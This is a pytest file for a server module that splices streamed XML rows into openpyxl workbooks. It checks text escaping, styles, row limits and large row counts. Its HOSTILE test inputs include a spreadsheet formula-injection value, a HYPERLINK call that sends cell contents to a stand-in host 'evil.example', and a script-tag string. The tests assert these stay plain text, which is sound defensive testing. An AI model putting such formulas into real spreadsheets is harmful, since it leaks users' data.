"""Large sheets written as XML rows and spliced into the workbook openpyxl saved (server/xlsx.py):
read back with openpyxl, cell by cell, as a clerk's Excel would see them."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from server import xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&C3,"证明")',  # a formula if it were one: text here
    "<b>王&amp;李</b> & <script>",  # markup characters: escaped, kept as typed
    "  两头有空格\n第二行  ",  # spaces and a line break kept
    "控制\x01字符\x1f去掉\x0b",  # characters XML cannot hold: dropped, the rest kept
    "#N/A",  # looks like an error value: text
]


def saved_with() -> tuple[Workbook, dict[str, object]]:
    """A write-only book: two sheets with a title and a header row each (the second created
    first but placed first, as the ledger does), plus a small sheet written by openpyxl alone."""
    book = Workbook(write_only=True)
    sheets = {}
    for name in ("明细", "一览"):
        ws = book.create_sheet(name, 0)
        ws.freeze_panes = "A3"
        ws.append([f"{name}标题"])
        ws.merged_cells.add("A1:C1")
        ws.append(["列一", "列二", "列三"])
        sheets[name] = ws
    other = book.create_sheet("其他")
    other.append(["不动", 7])
    return book, sheets


def test_spooled_rows_read_back_as_typed_text_numbers_and_styles():
    book, sheets = saved_with()
    details = xlsx.RowSpool("明细", first_row=3, columns=3)
    summary = xlsx.RowSpool("一览", first_row=3, columns=3)
    for text in HOSTILE:
        details.append([text, None, ""])
    details.append(["数字", 42, 3.5])
    bold = WriteOnlyCell(sheets["一览"], value=None)
    bold.font = Font(name="宋体", bold=True, color="C00000")
    style = bold.style_id
    summary.append(["未达到", 1, None], [style, None, style])
    summary.append(["短行"])
    out = io.BytesIO()
    book.save(out)
    body = xlsx.splice(out.getvalue(), [details, summary])

    assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None
    read = load_workbook(io.BytesIO(body))
    assert read.sheetnames == ["一览", "明细", "其他"]
    detail = read["明细"]
    assert detail["A1"].value == "明细标题" and "A1:C1" in detail.merged_cells and detail.freeze_panes == "A3"
    assert [c.value for c in detail[2]] == ["列一", "列二", "列三"]
    written = [row for row in detail.iter_rows(min_row=3)]
    expected = [*HOSTILE[:3], "控制字符去掉", "#N/A"]
    assert [row[0].value for row in written[:5]] == expected
    assert all(row[0].data_type == "s" for row in written[:5])  # text, never a formula or an error
    assert all(row[1].value is None and row[2].value is None for row in written[:5])
    assert [c.value for c in written[5]] == ["数字", 42, 3.5] and written[5][1].data_type == "n"
    assert detail.max_row == 8

    overview = read["一览"]
    assert [c.value for c in overview[3]] == ["未达到", 1, None]
    assert overview["A3"].font.bold and overview["A3"].font.color.rgb.endswith("C00000")
    assert overview["C3"].font.bold and not overview["B3"].font.bold  # an empty cell keeps its style
    assert overview["A4"].value == "短行"
    assert [[c.value for c in row] for row in read["其他"].iter_rows()] == [["不动", 7]]


def test_a_row_longer_than_the_sheet_or_holding_something_else_is_refused():
    spool = xlsx.RowSpool("明细", first_row=3, columns=2)
    with pytest.raises(ValueError):
        spool.append(["一", "二", "三"])
    with pytest.raises(TypeError):
        spool.append([object()])
    spool.close()


def test_a_hundred_thousand_rows_stay_on_disk_until_the_splice():
    spool = xlsx.RowSpool("明细", first_row=3, columns=3)
    for number in range(100_000):
        spool.append([f"党员{number}", "出席", number])
    assert len(spool._pending) < 5000  # flushed to its temporary file as it goes
    book, _ = saved_with()
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(xlsx.splice(out.getvalue(), [spool])), read_only=True)
    rows = list(read["明细"].iter_rows(min_row=3, values_only=True))
    assert len(rows) == 100_000 and rows[0] == ("党员0", "出席", 0) and rows[-1] == ("党员99999", "出席", 99999)


def test_a_spool_starting_on_a_row_openpyxl_already_wrote_is_refused_not_a_broken_file():
    book, _ = saved_with()
    spool = xlsx.RowSpool("明细", first_row=2, columns=3)  # row 2 is the header
    spool.append(["重复的行"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ValueError, match="row 2"):
        xlsx.splice(out.getvalue(), [spool])
